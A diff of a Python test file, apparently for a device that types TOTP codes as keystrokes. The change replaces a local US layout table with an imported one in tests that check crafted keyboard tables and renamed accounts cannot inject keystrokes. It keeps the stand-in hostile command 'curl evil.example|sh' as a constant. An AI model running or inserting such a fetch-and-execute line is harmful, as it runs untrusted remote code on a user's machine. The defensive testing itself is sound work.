@@ -8,16 +8,16 @@ import pytest
 
 from tests.attacks.stage import Stage, done, waits
 from tests.support.desk import AMAZON
+from tests.typing.typing_setups import US_TABLE
 from totpkey.keyboard.layouts import layouts
 
-US = layouts()["us"].table
 COMMAND = "curl evil.example|sh"
 
 
 def with_letters(stage: Stage) -> str:
     account = stage.set_up()
     given: dict[str, str | int] = {"mode": "keypad", "pace": 0, "delay": 0, "margin": 3, "layout": "us"}
-    done(stage.agree("set_typing", **given, table=US.hex()))
+    done(stage.agree("set_typing", **given, table=US_TABLE.hex()))
     stage.port.pulse()
     return account
 
@@ -73,7 +73,7 @@ def test_no_press_for_a_small_change_has_an_agreed_name_typed_with_other_keys(
     other = str(done(stage.add(label="other"))["account"])
     done(stage.agree("rename", account=other, label="mine"))
     same: dict[str, str | int] = {"mode": "keypad", "delay": 0, "margin": 3, "layout": "us"}
-    same["table"] = US.hex()
+    same["table"] = US_TABLE.hex()
     done(stage.port.ask("set_typing", **same, pace=16))
     assert waits(stage.port.ask("set_typing", **{**same, **other_keys}, pace=16))
     stage.port.pulse()
@@ -104,7 +104,7 @@ def test_hardly_a_character_of_a_name_is_harmless_on_every_pair_of_layouts() -> 
 def test_a_table_of_the_programs_own_is_refused(stage: Stage, name: str) -> None:
     """It has Alt+D, which a browser obeys, in the place of each digit."""
     with_letters(stage)
-    crafted = US[:32] + b"\x07\x40" * 10 + US[52:]
+    crafted = US_TABLE[:32] + b"\x07\x40" * 10 + US_TABLE[52:]
     given: dict[str, str | int] = {"mode": "top-row", "pace": 0, "table": crafted.hex()}
     if name == "sample":
         given["text"] = "letters"
